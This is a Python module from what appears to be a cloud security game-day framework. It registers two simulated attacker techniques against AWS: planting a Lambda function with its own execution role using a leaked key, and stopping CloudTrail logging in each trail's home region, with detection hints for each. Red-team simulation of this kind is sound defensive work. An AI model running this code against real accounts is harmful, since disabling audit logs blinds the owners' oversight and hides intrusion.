"""Execution and defence evasion: code planted in Lambda, CloudTrail switched off."""

from __future__ import annotations

import io
import json
import zipfile

from gameday.exercise.attacker.base import TECHNIQUES, AttackerContext, Resource, Technique
from gameday.scenario.model import LambdaCreate, StopLogging

HANDLER = (
    "# SIMULATION — game day exercise: stands for an attacker's implant\n"
    "def handler(event, context):\n"
    "    return {'status': 'ok'}\n"
)
LAMBDA_TRUST = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Principal": {"Service": "lambda.amazonaws.com"},
                "Action": "sts:AssumeRole",
            }
        ],
    }
)


def _package() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("index.py", date_time=(2020, 1, 1, 0, 0, 0))
        archive.writestr(info, HANDLER)
    return buffer.getvalue()


def _lambda(ctx: AttackerContext, params: LambdaCreate) -> None:
    role_name = f"{params.function_name}-role"
    role = ctx.call("iam", "create_role", RoleName=role_name, AssumeRolePolicyDocument=LAMBDA_TRUST)
    if role is None:
        return
    ctx.created(Resource("role", role_name))
    created = ctx.call(
        "lambda",
        "create_function",
        region=params.region,
        FunctionName=params.function_name,
        Runtime="python3.12",
        Role=role["Role"]["Arn"],
        Handler="index.handler",
        Code={"ZipFile": _package()},
    )
    if created:
        ctx.created(Resource("function", params.function_name, region=params.region))


def _stop_logging(ctx: AttackerContext, params: StopLogging) -> None:
    # A trail is only switched off in its home region; DescribeTrails in each region shows
    # that region's own trails and every multi-region trail, with its home region.
    homes: dict[str, str] = {}
    for region in dict.fromkeys(["us-east-1", *ctx.regions_in_use]):
        listed = ctx.call("cloudtrail", "describe_trails", region=region)
        for trail in (listed or {}).get("trailList", []):
            if params.trail in (None, trail["Name"], trail["TrailARN"]):
                homes.setdefault(trail["Name"], str(trail.get("HomeRegion") or region))
    if params.trail and not homes:
        homes[params.trail] = "us-east-1"  # not listed: try it where most trails live
    stopped = [
        name
        for name, home in homes.items()
        if ctx.call("cloudtrail", "stop_logging", region=home, Name=name) is not None
    ]
    ctx.outcome.loot["stopped_trails"] = stopped


TECHNIQUES.register(
    Technique(
        id="aws.execution.lambda-create-function",
        tactic="execution",
        title="Plant a Lambda function",
        description="Creates an execution role and a Lambda function with an innocuous name.",
        detection="CreateRole trusting lambda.amazonaws.com followed by CreateFunction from the "
        "leaked key.",
        detonate=_lambda,
    )
)
TECHNIQUES.register(
    Technique(
        id="aws.defense-evasion.cloudtrail-stop-logging",
        tactic="defense-evasion",
        title="Stop CloudTrail logging",
        description="Describes the trails and stops logging on them, blinding later investigation.",
        detection="StopLogging in CloudTrail (the last event the trail records); a GuardDuty "
        "Stealth finding.",
        detonate=_stop_logging,
    )
)
